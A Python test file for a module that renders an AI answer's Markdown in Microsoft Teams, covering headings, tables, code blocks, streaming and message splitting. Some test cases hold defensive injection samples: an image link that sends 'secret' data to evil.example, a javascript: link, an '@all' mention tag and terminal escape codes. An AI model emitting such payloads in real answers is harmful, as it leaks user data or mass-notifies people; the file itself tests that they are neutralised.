"""What an answer's Markdown becomes in Teams."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from adapters.chat.teams.markdown import for_teams, split, while_streaming

PIECES = st.sampled_from(
    [
        *(
            "# Heading\n",
            "## Zwei ##\n",
            "word ",
            "Hej! ",
            "\n",
            "\n\n",
            "**bold** ",
            "- item\n",
            "æøå ß 🚀 ",
        ),
        *("| a | b |\n", "|---|:-:|\n", "| 1 | 2 |\n", "|", "```python\n", "```\n", "~~~\n", "# comment\n"),
        *(
            "<at>all</at>",
            "<",
            "<a",
            "![x](http://y/z)",
            "![",
            "[a](b) ",
            "[ok](https://x.example) ",
            "[",
            "]",
            "(",
        ),
    ]
)
MARKDOWN = st.lists(PIECES, max_size=40).map("".join)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("# Tilbud\nhej", "**Tilbud**\nhej"),
        ("### **Bold** ###", "**Bold**"),
        ("```\n# comment\n| a |\n```", "```\n# comment\n| a |\n```"),
        ("| Vare | Pris |\n|---|--:|\n| Leje | 4,20 |", "```\nVare  Pris\n----  ----\nLeje  4,20\n```"),
        ("Hej <at>all</at> og <AT id='1'>x</AT>", "Hej ‹at>all‹/at> og ‹AT id='1'>x‹/AT>"),
        ("see ![chart](https://evil.example/?d=secret)", "see chart"),
        (
            "[click](javascript:alert(1)) [ok](https://a.example)",
            "[click] (javascript:alert(1)) [ok](https://a.example)",
        ),
        ("a | b is no table", "a | b is no table"),
        ("\x1b[31mred\x07", "[31mred"),
    ],
)
def test_markdown_is_put_into_teams_terms(text: str, shown: str) -> None:
    assert for_teams(text) == shown


@given(MARKDOWN)
def test_no_text_of_a_model_mentions_anybody_or_loads_an_image(text: str) -> None:
    outside = re.sub(r"(?ms)^\s{0,3}(```|~~~).*?(^\s{0,3}\1|\Z)", "", for_teams(text))
    assert not re.search(r"<\s*/?at\b", outside, re.IGNORECASE)
    assert not re.search(r"!\[[^\]\n]*\]\([^)\n]*\)", outside)


@given(MARKDOWN, st.data())
def test_what_is_streamed_stays_when_the_text_grows(text: str, data: st.DataObject) -> None:
    cut = data.draw(st.integers(0, len(text)))
    further = data.draw(st.integers(cut, len(text)))
    shown = while_streaming(text[:cut])
    assert while_streaming(text[:further]).startswith(shown)
    assert for_teams(text).startswith(shown)


@given(MARKDOWN, st.integers(40, 400))
def test_parts_are_small_enough_and_lose_no_word(text: str, most: int) -> None:
    parts = split(text, most)
    assert all(len(part) <= most for part in parts)
    letters = re.sub(r"\s|```|~~~", "", "".join(parts))
    assert letters == re.sub(r"\s|```|~~~", "", text)


def test_a_code_block_is_closed_and_opened_again_where_it_is_cut() -> None:
    code = "Code:\n\n```\n" + "line of code\n" * 30 + "```\nEnd"
    parts = split(code, 200)
    assert len(parts) > 2
    assert all(part.count("```") % 2 == 0 for part in parts)
    assert all("line of" not in part or part.startswith(("Code:", "```")) for part in parts)
